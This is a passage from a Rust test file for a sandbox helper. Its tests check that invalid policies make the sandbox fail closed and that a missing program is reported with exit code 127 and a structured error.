    std::fs::write(&bad, r#"{"argv": ["x"]}"#).unwrap();
    let mut argv = s.helper_argv(&s.base(), &marker_argv());
    argv[3] = bad.into();
    let r = s.run(argv, None);
    let f = assert_failed_closed(&s, &r, "policy");
    assert!(f["why"].as_str().unwrap().contains("sandbox"), "{f}");

    let mut policy = s.base();
    policy["hidden"] = json!(["relative/path"]);
    let r = s.run(s.helper_argv(&policy, &marker_argv()), None);
    assert_failed_closed(&s, &r, "policy");
}

#[test]
fn sandbox_reports_a_program_it_cannot_exec() {
    let s = Sbx::new();
    let r = s.run(
        s.helper_argv(&s.base(), &["no-such-program-sbx".as_ref()]),
        None,
    );
    assert_eq!(r.code, 127, "{r:#?}");
    assert_eq!(r.reports.len(), 2, "{r:#?}");
    assert!(r.reports[0]["enforced"].is_object());
    assert_eq!(r.reports[1]["failed"]["kind"], json!("exec"));
    assert_eq!(
        r.reports[1]["failed"]["program"],
        json!("no-such-program-sbx")
    );
    assert!(
        r.stderr
            .contains("subpane sandbox: cannot start no-such-program-sbx"),
        "{r:#?}"
    );
}
